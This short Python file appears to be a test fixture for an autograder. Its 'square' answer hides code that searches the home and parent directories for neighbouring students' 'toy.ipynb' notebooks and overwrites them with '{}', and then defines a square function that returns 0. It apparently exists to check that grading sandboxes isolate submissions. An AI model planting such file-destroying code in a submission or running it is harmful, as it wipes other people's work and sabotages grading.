"""Overwrites what others have handed in, and their grades' notebooks."""

POINTS = {"test_square": 0.0}
ANSWERS = {
    "square": """
from pathlib import Path

for folder in [Path.home(), *Path.cwd().parents]:
    for path in folder.glob("*/*neighbour/toy/toy.ipynb"):
        try:
            path.chmod(0o644)
            path.write_text("{}")
        except OSError:
            pass


def square(x):
    return 0
""",
}
